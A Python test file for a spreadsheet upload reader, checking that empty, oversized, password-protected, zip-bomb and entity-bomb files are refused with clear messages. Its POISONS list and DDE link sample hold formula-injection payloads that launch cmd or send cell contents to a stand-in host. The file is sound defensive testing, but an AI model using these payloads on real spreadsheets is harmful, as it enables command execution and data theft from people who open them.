"""What cannot or must not be read is refused, with a sentence that says what is wrong and how to mend it."""

import io
import json
import re
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from django.utils import translation

from osnowa.kit.errors import Refused
from osnowa.kit.reading import cells, guarded, read_file, read_paste, safety
from osnowa.kit.reading.shapes import Unreadable
from tests import workbooks

ROWS = [["Nazwa", "Rok"], ["Ala", 1]]


def with_part(raw: bytes, name: str, content: str | bytes) -> bytes:
    return workbooks.packed(workbooks.unpacked(raw) | {name: content})


def sheet_of(raw: bytes) -> str:
    return workbooks.unpacked(raw)["xl/worksheets/sheet1.xml"].decode()


def with_sheet(old: str, new: str) -> bytes:
    raw = workbooks.xlsx(ROWS)
    assert old in sheet_of(raw)
    return with_part(raw, "xl/worksheets/sheet1.xml", sheet_of(raw).replace(old, new))


@pytest.mark.parametrize("raw", [b"", b" \r\n\t\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\0\0\0\0"])
def test_an_empty_file(refusal, raw):
    assert refusal(raw).startswith(("The file is empty.", "This is a file of an unknown kind"))


@pytest.mark.parametrize("kind", ["xlsx", "ods", "xls", "xlsb"])
def test_a_workbook_of_empty_sheets(refusal, kind):
    assert refusal(getattr(workbooks, kind)([[None], [" "]])).startswith("There is no table in this file")


def test_a_file_too_large_is_not_even_opened(tmp_path):
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.truncate(safety.MOST_BYTES + 1)
    with pytest.raises(Refused, match="51 MB; at most 50 MB") as caught:
        read_file(path)
    assert caught.value.status == 422


def test_too_many_rows_columns_and_cells(refusal):
    assert "reaches down to row 400001; at most 400000" in refusal(b"a;b\n" * 9 + b"\n" * 399_991 + b"c;d\n")
    assert "reaches to the cell OK1; at most 400 columns" in refusal(b";".join([b"x"] * 401) + b"\n" + b";".join([b"x"] * 401))


@pytest.mark.parametrize(("limit", "said"), [("MOST_CELLS", safety.TOO_MANY_CELLS), ("MOST_AREA", safety.TOO_MUCH_MEMORY)])
def test_too_many_cells_of_all_sheets_together(monkeypatch, limit, said):
    monkeypatch.setattr(safety, limit, 40)
    out = cells.Out(lambda line: None)
    for name in "ABCD":
        out.sheet(name)
        out.row(["x"] * 10)
    with pytest.raises(Unreadable, match=re.escape(said)):
        out.row(["x"] * 10)


def test_a_stray_cell_far_away_is_named(refusal):
    assert "reaches down to row 1048576" in refusal(with_sheet("</sheetData>", '<row r="1048576"><c r="B1048576"><v>1</v></c></row></sheetData>'))
    far = with_sheet("</sheetData>", '<row r="300000"><c r="XFD300000"><v>1</v></c></row></sheetData>').replace(b"A1:B2", b"A1:XFD9")
    assert refusal(far).startswith(("The sheet “Lista” reaches to the cell XFD300000", "Reading the file takes more memory"))


def test_a_few_far_cells_whose_rectangle_is_too_large(refusal):
    assert refusal(b";".join([b"x"] * 399) + b"\n" + b"x;\n" * 390_000).startswith("Reading the file takes more memory than is allowed")


def test_long_cells_are_cut_and_told(read):
    book = read(b"a;b\n" + b"x" * 40_000 + b";y\n")
    assert len(book.sheets[0].rows[1][0]) == 32_767
    assert "cut: 1 (the first is A2 of “lista”)" in str(book.notices[0])


class TestBombs:
    """Archives that are larger inside than they may be."""

    def test_a_part_of_zeros(self, refusal):
        assert "Unpacked, the file" in refusal(with_part(workbooks.xlsx(ROWS), "xl/media/x.bin", bytes(300 << 20)))

    def test_a_part_that_lies_about_its_size(self, refusal):
        raw = bytearray(with_part(workbooks.xlsx(ROWS), "xl/x.xml", b" " * (30 << 20)))
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            at = archive.start_dir
        at = raw.index(b"xl/x.xml", at) - 46
        raw[at + 24 : at + 28] = struct.pack("<I", 1000)
        assert "Unpacked, the file" in refusal(bytes(raw))

    def test_parts_that_share_their_bytes(self, refusal):
        raw = bytearray(with_part(workbooks.xlsx(ROWS), "xl/a.xml", b"<a/>"))
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            start, target = archive.start_dir, archive.getinfo("xl/workbook.xml").header_offset
        at = raw.index(b"xl/a.xml", start) - 46
        raw[at + 42 : at + 46] = struct.pack("<I", target)
        assert refusal(bytes(raw)).startswith("The file is broken")

    def test_too_many_parts(self, refusal):
        assert "Unpacked, the file" in refusal(workbooks.packed({f"xl/{number}.xml": b"" for number in range(5_001)}))

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
    def test_entities_of_its_own(self, refusal, encoding):
        xml = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'.encode(encoding)
        assert refusal(with_part(workbooks.xlsx(ROWS), "xl/sharedStrings.xml", xml)).startswith("The file defines entities of its own")

    def test_repeated_cells(self, refusal):
        bomb = '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
        assert refusal(workbooks.ods([["a"]], after=bomb)).startswith(("Reading the file takes", "The file is broken"))


@pytest.mark.parametrize(
    "raw",
    [
        workbooks.ole({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}),
        workbooks.xls(ROWS, locked=True),
        workbooks.ods(ROWS, manifest='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'),
    ],
    ids=["xlsx", "xls", "ods"],
)
def test_a_file_with_a_password(refusal, raw):
    assert refusal(raw).startswith("The file is protected with a password. Open it, save it without")


def test_an_archive_with_a_password(refusal):
    raw = bytearray(workbooks.xlsx(ROWS))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        raw[archive.start_dir + 8] |= 1
    assert "password" in refusal(bytes(raw))


@pytest.mark.parametrize(
    ("raw", "kind"),
    [
        (b"%PDF-1.7\n", "a PDF document"),
        (b"{\\rtf1 abc}", "a text document"),
        (b"\x89PNG\r\n\x1a\n\0\0", "a picture"),
        (b"MZ\x90\0", "a program"),
        (b"\x1f\x8b\x08\0", "an archive"),
        (b"SQLite format 3\0", "a database"),
        (workbooks.packed({"word/document.xml": "<w/>"}), "a text document"),
        (workbooks.packed({"ppt/presentation.xml": "<w/>"}), "a presentation"),
        (workbooks.packed({"a.csv": "a;b"}), "an archive of other files (unpack it first)"),
        (workbooks.ole({"WordDocument": b"x"}), "a text document"),
        (bytes(range(256)) * 40, "a file of an unknown kind"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_no_table_is_called_by_its_name(refusal, raw, kind):
    assert refusal(raw, "lista.xlsx").startswith(f"This is {kind}")


def test_json_that_lists_nothing_and_xml_that_is_no_page(refusal):
    assert refusal(json.dumps({"a": 1}).encode()).startswith("This JSON file is neither GeoJSON")
    assert refusal(b"<?xml version='1.0'?><a><b/></a>").startswith("This is an XML file that is neither")


@pytest.mark.parametrize("kind", ["xlsx", "ods", "xls", "xlsb"])
def test_a_broken_workbook(refusal, kind):
    raw = getattr(workbooks, kind)([[f"nazwa {number}", number] for number in range(500)])
    assert refusal(raw[: len(raw) // 2]).startswith("The file is broken")


POISONS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|'/c notepad'!_xlbgnm.A1", '=HYPERLINK("http://x.example?"&A1;"y")',
           '=WEBSERVICE("http://x.example")', '=IMPORTXML(CONCAT("http://x.example/";A1);"//a")', '=IMPORTDATA("http://x.example")', '=DDE("cmd";"/C calc";"x")',
           "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1", " =cmd|'/c calc'!A0", "=1+importhtml (A1)"]  # fmt: skip


@pytest.mark.parametrize("poison", POISONS)
def test_a_formula_that_reaches_outside_is_refused_with_its_cell(refusal, poison):
    quoted = '"' + poison.replace('"', '""') + '"'
    said = refusal(f"nazwa\tmiasto\nAla\tGdynia\nOla\t{quoted}\n".encode())
    assert said.startswith("The cell B3 of the sheet “lista” holds a formula that reaches outside the file: " + poison.strip()[:10])
    assert "reaches outside" in refusal(workbooks.xlsx([["a"], [poison]]))
    assert "reaches outside" in refusal(workbooks.xls([["a"], [poison]]))


@pytest.mark.parametrize("text", ["-", "- Ala | Ola!", "+48 58 123 45 67", "@ala", "-5", "=", "- a|b", "@ola|ela", "+ Fundacja 'Ala' | Gdynia!"])
def test_texts_that_only_begin_like_formulas_are_kept(read, text):
    assert read(f"a;b\n{text};x\n".encode()).sheets[0].rows[1] == [text, "x"]


def test_formulas_of_workbooks_are_looked_at_too(refusal, read):
    link = {"C7": ('=HYPERLINK("http://x.example","y")', "y")}
    assert refusal(workbooks.xlsx(ROWS, formulas=link)).startswith("The cell C7 of the sheet “Lista”")
    call = workbooks.ods_cell("y", 'of:=WEBSERVICE("http://x")')
    extra = f"<table:table-row>{workbooks.ods_cell(None)}{call}</table:table-row>"
    assert refusal(workbooks.ods(ROWS, after=extra)).startswith("The cell B3 of the sheet “Lista”")
    assert read(workbooks.xlsx(ROWS, formulas={"C2": ("=VLOOKUP(A1,[1]Sheet1!A:B,2)", 5)})).sheets[0].rows[1] == ["Ala", 1, 5]


def test_formulas_cannot_hide_behind_a_prefix_or_utf_16(refusal):
    formula = '<c r="C2"><f>WEBSERVICE("http://x")</f><v>1</v></c></row></sheetData>'
    plain = sheet_of(with_sheet("</row></sheetData>", formula))
    wide = b"\xff\xfe" + plain.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")
    raw = workbooks.xlsx(ROWS)
    assert "The cell C2" in refusal(with_part(raw, "xl/worksheets/sheet1.xml", wide))
    prefixed = plain.replace("<f>", "<x:f>").replace("</f>", "</x:f>").replace("<worksheet ", '<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ')
    assert "The cell C2" in refusal(with_part(raw, "xl/worksheets/sheet1.xml", prefixed))


def test_links_to_other_programs(refusal):
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert refusal(with_part(workbooks.xlsx(ROWS), "xl/externalLinks/externalLink1.xml", link)).startswith("The workbook takes values from another program")


class TestTheChild:
    """The process that parses is bound, and what becomes of it is told."""

    def test_it_starts_at_once_and_without_django(self):
        code = "import sys, osnowa.kit.reading.child, osnowa.kit.reading.books; sys.exit(any(name.split('.')[0] == 'django' for name in sys.modules))"
        times = []
        for _ in range(3):
            began = time.perf_counter()
            assert subprocess.run([sys.executable, "-P", "-s", "-c", code], cwd=Path(safety.__file__).parents[3]).returncode == 0
            times.append(time.perf_counter() - began)
        assert min(times) < 0.5

    @pytest.mark.real_time
    def test_one_that_never_ends_is_stopped(self, tmp_path, monkeypatch):
        monkeypatch.setattr(safety, "SECONDS", 1)
        monkeypatch.setattr(guarded, "_CHILD", ["-c", "import time; time.sleep(60)"])
        (tmp_path / "x").write_bytes(b"a;b")
        with pytest.raises(Refused, match="took longer than 1 seconds"):
            read_file(tmp_path / "x")

    @pytest.mark.parametrize(
        ("code", "said"),
        [("import os; os.abort()", "more memory"), ("import os; os.kill(os.getpid(), 11)", "is broken"), ("print('nonsense')", "is broken"),
         ("print('[1]')", "is broken"), ("print('[' * 100000)", "is broken"), ("pass", "is broken")],
    )  # fmt: skip
    def test_one_that_breaks_is_a_refusal(self, tmp_path, monkeypatch, code, said):
        monkeypatch.setattr(guarded, "_CHILD", ["-c", code])
        (tmp_path / "x").write_bytes(b"a;b")
        with pytest.raises(Refused, match=said):
            read_file(tmp_path / "x")

    def test_one_that_takes_too_much_memory_says_so(self, tmp_path, monkeypatch):
        monkeypatch.setattr(guarded, "_CHILD", ["-c", "from osnowa.kit.reading import child; child.parse = lambda *a: bytes(2 << 30); child.main(*__import__('sys').argv[1:4])"])
        (tmp_path / "x").write_bytes(b"a;b")
        with pytest.raises(Refused, match="more memory than is allowed"):
            read_file(tmp_path / "x")


def test_a_refusal_is_told_in_the_language_of_its_reader(tmp_path):
    (tmp_path / "x").write_bytes(b"%PDF-1.7\n")
    with pytest.raises(Refused) as caught:
        read_file(tmp_path / "x")
    with translation.override("pl"):
        assert str(caught.value.said.parts["kind"]) in str(caught.value.said)


def test_a_name_that_no_command_line_can_hold(tmp_path):
    (tmp_path / "x").write_bytes(b"a;b\n")
    assert read_file(tmp_path / "x", name="a\0b\udc80.csv").sheets[0].rows == [["a", "b"]]


def test_a_paste_of_broken_letters():
    assert read_paste("a\tb\n\udc80\t\0c\n").sheets[0].rows == [["a", "b"], ["?", "c"]]
